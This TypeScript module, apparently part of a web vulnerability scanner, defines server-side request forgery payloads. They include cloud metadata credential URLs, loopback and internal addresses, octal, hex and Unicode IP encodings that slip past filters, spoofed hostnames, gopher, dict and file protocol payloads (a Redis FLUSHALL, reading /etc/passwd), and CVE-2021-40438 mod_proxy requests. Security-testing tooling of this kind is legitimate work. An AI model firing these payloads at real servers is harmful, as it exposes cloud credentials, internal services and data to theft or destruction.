import { getMessage } from '../message.ts';
import type { TechniqueFamily } from '../technique.ts';

export const ssrfTechniques: TechniqueFamily = {
  about: 'an address that the server loads',
  places: [
    'query value',
    'form value',
    'JSON leaf',
    'JSON in query',
    'GraphQL variable',
    'multipart field',
    'XML text',
    'XML attribute',
    'cookie',
    'raw body',
  ],
  fields: [
    'url',
    'webhook',
    'image_url',
    'target',
    'callback',
    'feed',
    'dest',
    'avatarUrl',
    'uri',
    'src',
  ],
  techniques: {
    'metadata of a cloud': {
      does: 'Asks the metadata service of a cloud for credentials',
      needs: 'a machine in a cloud',
      values: () => [
        'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
        'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
        'http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01',
        'http://100.100.100.200/latest/meta-data/',
        'http://169.254.170.2/v2/credentials/',
        'http://[fd00:ec2::254]/latest/user-data',
        'http://169.254.169.254/opc/v2/instance/',
        'http://169.254.169.254/metadata/v1.json',
      ],
    },
    loopback: {
      does: 'Asks a service of the server itself',
      needs: 'any system',
      values: (random) => {
        const port = random.pick([22, 80, 3000, 5000, 6379, 8080, 8443, 9200, 11211]);
        return [
          `http://127.0.0.1:${port}/`,
          `http://localhost:${port}/admin`,
          `http://[::1]:${port}/`,
          `https://127.0.0.1/server-status`,
          `http://localhost/`,
          `http://0.0.0.0:${port}`,
          `http://127.8.9.10/`,
          `http://localhost.:${port}/`,
        ];
      },
    },
    'network inside': {
      does: 'Asks a host of the internal network',
      needs: 'any system',
      values: (random) => {
        const part = 1 + random.below(250);
        return [
          `http://10.0.${part}.5/`,
          `http://192.168.${part}.1/admin`,
          `http://172.16.0.${part}:8080/`,
          `http://192.168.0.${part}:9200/_cat/indices`,
          `https://10.1.2.${part}:6443/api/v1/secrets`,
          'http://kubernetes.default.svc/api',
          'http://jenkins.internal:8080/script',
          'http://intranet.local/',
        ];
      },
    },
    'other notations': {
      does: 'Writes an internal address as a number, in octal or hexadecimal digits, or in other characters',
      needs: 'a filter that compares texts',
      values: () => [
        'http://2130706433/',
        'http://0x7f000001/',
        'http://0177.0.0.1/',
        'http://127.1/',
        'http://0/',
        'http://[::ffff:127.0.0.1]/',
        'http://0x7f.0.0.1/',
        'http://2852039166/latest/meta-data/',
        'http://①②⑦.⓪.⓪.①/',
        'http://[::ffff:a9fe:a9fe]/',
        'http://017700000001/',
        'http://①⑥⑨.②⑤④.①⑥⑨.②⑤④/',
      ],
    },
    'misleading names': {
      does: 'Hides the internal host behind a user name, a fragment or a public name',
      needs: 'a filter that compares texts',
      values: () => [
        'http://shop.test@127.0.0.1/',
        'http://127.0.0.1#@shop.test/',
        'http://127.0.0.1.nip.io/',
        'http://shop.test@169.254.169.254/',
        'http://169.254.169.254.sslip.io/latest/',
        'http://localtest.me:8080/',
        'http://shop.test:80@10.0.0.1/',
        'http://127.0.0.1\\@shop.test/',
        'http://spoofed.lvh.me/',
      ],
    },
    'other protocols': {
      does: 'Uses a protocol that carries commands or reads files',
      needs: 'a client that knows the protocol',
      values: () => [
        'gopher://127.0.0.1:6379/_FLUSHALL%0d%0aSET%20q%201',
        'dict://127.0.0.1:11211/stats',
        'file:///etc/passwd',
        'ldap://127.0.0.1:389/',
        'tftp://198.51.100.3:69/a',
        'gopher://10.0.0.8:25/_HELO%20a',
        'sftp://198.51.100.3:22/',
        'netdoc:///etc/passwd',
        'ftp://127.0.0.1:21/',
      ],
    },
    'proxy of the server': {
      does: 'Has a proxy module connect to an address of the client (CVE-2021-40438)',
      needs: 'Apache mod_proxy',
      requests: () => [
        getMessage(`/?unix:${'A'.repeat(5000)}|http://169.254.169.254/`),
        getMessage(`/?unix:${'A'.repeat(200)}|http://127.0.0.1:8080/`),
        getMessage('/@169.254.169.254/latest/meta-data/'),
      ],
    },
  },
};
